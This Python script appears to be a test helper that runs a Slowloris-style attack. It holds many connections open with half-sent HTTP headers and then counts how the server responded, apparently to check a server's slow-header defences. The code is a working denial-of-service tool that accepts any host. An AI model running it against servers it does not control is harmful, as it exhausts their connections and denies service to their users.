"""An attacker that opens many connections, sends half a request header on each and holds them.

Run as a script (one process holds at most ``count`` descriptors, so the tests run several):
``python half_open.py HOST PORT COUNT HOLD_S``. It prints "connected N" once it has sent half a
header on every connection it could open (or after 60 s), then holds them ``HOLD_S`` seconds and prints one JSON line: how many connected, and of those
how many the server closed, answered 503 or answered 408.
"""

from __future__ import annotations

import errno
import json
import resource
import select
import socket
import sys
import time

HALF = b"POST /v1/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"


def attack(host: str, port: int, count: int, hold_s: float) -> dict:
    poller = select.epoll()
    socks: dict[int, socket.socket] = {}
    connecting: set[int] = set()
    sent = 0
    failed = 0
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((host, port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            failed += 1
            continue
        socks[s.fileno()] = s
        connecting.add(s.fileno())
        poller.register(s.fileno(), select.EPOLLOUT)
    deadline = time.monotonic() + 60.0
    while connecting and time.monotonic() < deadline:
        for fd, _ in poller.poll(1.0):
            if fd not in connecting:
                continue
            connecting.discard(fd)
            poller.unregister(fd)
            s = socks[fd]
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                try:
                    s.send(HALF)
                    sent += 1
                except OSError:
                    failed += 1
            else:
                failed += 1
    print(f"connected {sent}", flush=True)
    time.sleep(hold_s)
    closed = busy = late = still_open = 0
    for fd, s in socks.items():
        if fd in connecting:
            continue
        try:
            data = s.recv(256)
        except BlockingIOError:
            still_open += 1
            continue
        except OSError:
            closed += 1
            continue
        if data.startswith(b"HTTP/1.1 503"):
            busy += 1
        elif data.startswith(b"HTTP/1.1 408"):
            late += 1
        else:
            closed += 1
    for s in socks.values():
        s.close()
    return {"connected": sent, "failed": failed, "closed": closed, "answered_503": busy,
            "answered_408": late, "still_open": still_open}


def descriptors() -> int:
    """Raise this process's open-file limit to its hard limit; how many sockets it can hold."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY:
        hard = 1 << 16
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard - 64


if __name__ == "__main__":
    descriptors()
    host, port, count, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    print(json.dumps(attack(host, port, count, hold)), flush=True)
